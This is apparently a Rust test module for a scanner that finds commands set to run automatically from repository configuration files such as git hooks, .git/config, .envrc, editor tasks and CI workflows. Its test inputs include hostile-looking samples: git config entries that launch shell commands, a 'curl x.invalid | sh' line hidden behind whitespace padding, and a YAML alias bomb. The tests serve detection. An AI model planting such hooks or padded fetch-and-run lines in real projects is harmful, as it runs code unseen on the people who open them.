use super::*;
use AutoRunEvent::*;
use AutoRunNote::*;
use proptest::prelude::*;

mod editors;
mod managers;
mod workflows;

pub(super) fn runs(path: &str, text: &str) -> Vec<AutoRun> {
    assert!(recognises(path), "{path}");
    let runs = read(path, text.as_bytes(), &Limits::default()).unwrap();
    for run in &runs {
        assert!(run.span.0 <= run.span.1 && run.span.1 <= text.len(), "{path}: {run:?}");
    }
    runs
}

/// The events and shell texts of a file.
pub(super) fn commands(path: &str, text: &str) -> Vec<(AutoRunEvent, String)> {
    let shown = |run: AutoRun| match run.command {
        AutoRunCommand::Shell(text) => (run.event, text),
        AutoRunCommand::File(path) => (run.event, format!("file {path}")),
        AutoRunCommand::Unknown => (run.event, format!("{:?}", run.notes)),
    };
    runs(path, text).into_iter().map(shown).collect()
}

pub(super) fn notes(path: &str, text: &str) -> Vec<AutoRunNote> {
    let mut notes: Vec<_> = runs(path, text).into_iter().flat_map(|run| run.notes).collect();
    notes.sort();
    notes.dedup();
    notes
}

#[test]
fn paths_are_recognised_wherever_the_folder_lies() {
    for path in [
        ".vscode/tasks.json",
        "packages/a/.vscode/settings.json",
        ".claude/settings.local.json",
        ".mcp.json",
        "./.npmrc",
        ".github/workflows/ci.yaml",
        ".husky/pre-commit",
        ".git/hooks/post-checkout",
        ".git/config",
        ".envrc",
        ".devcontainer/api/devcontainer.json",
        ".idea/startup.xml",
        "x.code-workspace",
        ".codex/config.toml",
    ] {
        assert!(recognises(path), "{path}");
    }
    for path in [
        "tasks.json",
        ".vscode/launch.json",
        ".git/hooks/pre-commit.sample",
        ".husky/_/husky.sh",
        "Makefile",
        "",
        "workflows/ci.yml",
        ".husky/install.mjs",
        "config",
    ] {
        assert!(!recognises(path), "{path}");
    }
}

#[test]
fn a_file_that_is_not_recognised_is_empty() {
    assert_eq!(read("index.js", b"x", &Limits::default()), Ok(vec![]));
}

#[test]
fn too_large_a_file_is_refused() {
    let limits = Limits { script_bytes: 3, ..Limits::default() };
    assert_eq!(read(".envrc", b"1234", &limits), Err(AutoRunError::TooLarge { bytes: 4, limit: 3 }));
}

#[test]
fn a_malformed_file_is_refused() {
    for (path, text) in
        [(".vscode/tasks.json", "{\"a\": "), (".github/workflows/a.yml", "a: [b"), (".mcp.json", "{]")]
    {
        let read = read(path, text.as_bytes(), &Limits::default());
        assert!(matches!(read, Err(AutoRunError::Malformed { .. })), "{path}: {read:?}");
    }
}

#[test]
fn too_deep_a_file_is_refused() {
    for path in [".vscode/tasks.json", ".github/workflows/a.yml"] {
        let read = read(path, "[".repeat(100_000).as_bytes(), &Limits::default());
        assert!(matches!(read, Err(AutoRunError::Malformed { .. })), "{path}");
    }
}

#[test]
fn an_alias_bomb_is_refused() {
    let mut text = String::from("a0: &a0 [x, x, x, x, x, x, x, x, x]\n");
    for at in 1..10 {
        let previous = format!("*a{}", at - 1);
        text.push_str(&format!("a{at}: &a{at} [{}]\n", vec![previous; 9].join(", ")));
    }
    assert!(read(".github/workflows/a.yml", text.as_bytes(), &Limits::default()).is_err());
}

#[test]
fn git_hooks_are_shell_or_files() {
    assert_eq!(commands(".husky/pre-commit", "npx lint-staged\n"), [(Commit, "npx lint-staged\n".into())]);
    assert_eq!(commands(".githooks/post-checkout", "#!/bin/bash\nx"), [(Checkout, "#!/bin/bash\nx".into())]);
    let expected = [(Checkout, "file .git/hooks/post-merge".into())];
    assert_eq!(commands(".git/hooks/post-merge", "#!/usr/bin/env node\nx()"), expected);
}

#[test]
fn git_configuration_that_names_programs_is_found() {
    let text = "[core]\n\thooksPath = .evil\n\tfsmonitor = \"sh -c x\"\n\tsshCommand = ssh -o ProxyCommand=x\n[filter \"a\"]\n\tsmudge = sh x\n[alias]\n\tst = !sh y\n\tco = checkout\n[include]\n\tpath = ../x\n";
    let expected = [
        (Commit, "file .evil".to_owned()),
        (GitCommand, "sh -c x".into()),
        (GitCommand, "ssh -o ProxyCommand=x".into()),
        (Checkout, "sh x".into()),
        (GitCommand, "sh y".into()),
        (GitCommand, "file ../x".into()),
    ];
    assert_eq!(commands(".git/config", text), expected);
}

#[test]
fn an_honest_git_configuration_is_quiet() {
    let text = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tfsmonitor = true\n[remote \"origin\"]\n\turl = https://x.invalid/a.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[filter \"lfs\"]\n\tprocess = git-lfs filter-process\n[branch \"main\"]\n\tremote = origin\n";
    assert_eq!(runs(".git/config", text), []);
}

#[test]
fn envrc_is_shell() {
    assert_eq!(commands(".envrc", "use nix\n"), [(ShellEntry, "use nix\n".into())]);
}

#[test]
fn padding_is_noted() {
    let text = format!("echo ok;{}curl x.invalid | sh", " ".repeat(300));
    assert_eq!(notes(".envrc", &text), [Padded]);
    assert_eq!(notes(".envrc", &format!("a\n{}\nb", " ".repeat(300))), []);
}

proptest! {
    #[test]
    fn arbitrary_bytes_never_panic(bytes in proptest::collection::vec(any::<u8>(), 0..200)) {
        for path in PATHS {
            let _ = read(path, &bytes, &Limits::default());
        }
    }

    #[test]
    fn text_like_the_files_never_panics(parts in proptest::collection::vec(prop::sample::select(vec![
        "{", "}", "[", "]", "\"", ":", ",", "\n", "  ", "- ", "tasks", "hooks", "\"command\"", "on: push", "jobs:", "steps:",
        "run: |", "${{", "}}", "secrets", "&a", "*a", "<<:", "=", "!", "#", "node-options", "é", "\\", "'", "true", "x",
    ]), 0..40)) {
        let text = parts.concat();
        for path in PATHS {
            if let Ok(runs) = read(path, text.as_bytes(), &Limits::default()) {
                for run in runs {
                    prop_assert!(run.span.0 <= run.span.1 && run.span.1 <= text.len(), "{path}: {run:?}");
                }
            }
        }
    }
}

const PATHS: [&str; 19] = [
    ".vscode/tasks.json",
    ".vscode/settings.json",
    "a.code-workspace",
    ".devcontainer.json",
    ".cursor/environment.json",
    ".idea/a.xml",
    ".mcp.json",
    ".codex/config.toml",
    ".github/workflows/a.yml",
    ".husky/pre-commit",
    ".git/config",
    ".envrc",
    ".npmrc",
    ".yarnrc",
    ".yarnrc.yml",
    "pnpm-workspace.yaml",
    ".pnpmfile.cjs",
    "bunfig.toml",
    ".cursor/hooks.json",
];
